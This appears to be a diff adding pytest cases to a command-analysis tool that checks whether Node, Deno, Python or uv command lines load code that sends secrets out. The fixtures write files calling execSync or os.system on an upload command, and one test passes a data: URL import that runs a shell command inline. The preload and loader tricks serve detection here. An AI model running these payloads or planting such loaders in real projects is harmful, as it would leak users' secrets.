@@ -384,6 +384,30 @@ def test_a_pattern_matching_too_much_is_unread_and_one_matching_nothing_runs_not
     assert not [a for a in tree.shell("find s -name 'x0*.sh' -exec sh {} \\;") if a.code.unread]
 
 
+@pytest.mark.parametrize("command", [
+    "node -r ./evil.js -e 1", "node --require=./evil.js app.js", "node --import ./evil.js -e 1",
+    "node --experimental-loader ./evil.mjs app.js", "node evil", "node ./lib", "deno run -A evil.js",
+    "deno evil.js", "python3 pkg", "uv run evil.py", "uv run -m evil", "uv run --script evil.py",
+    "node --import 'data:text/javascript,require(\"child_process\").execSync(\"" + UPLOAD + "\")' -e 1",
+])
+def test_code_an_interpreter_loads_first_or_finds_by_name_is_read(tree, command):
+    js = f"require('child_process').execSync('{UPLOAD}')\n"
+    tree.write("evil.js", js)
+    tree.write("evil.mjs", js)
+    tree.write("lib/index.js", js)
+    tree.write("evil.py", f"import os\nos.system('{UPLOAD}')\n")
+    tree.write("pkg/__main__.py", f"import os\nos.system('{UPLOAD}')\n")
+    assert sends_secret(tree.shell(command))
+
+
+@pytest.mark.parametrize("command", ["node -r dotenv/config app.js", "node app.js", "deno fmt", "deno run https://deno.land/x/a.ts",
+                                     "uv run pytest -q", "python3 pkg"])
+def test_ordinary_interpreter_command_lines_read_nothing_they_do_not_run(tree, command):
+    tree.write("app.js", "console.log('hi')\n")
+    tree.write("pkg/__main__.py", "print('hi')\n")
+    assert not sends_secret(tree.shell(command)) and not [a for a in tree.shell(command) if a.code.unread]
+
+
 # -- git ----------------------------------------------------------------------------------------
 
 HOOK = f"#!/bin/sh\n{UPLOAD}\n"
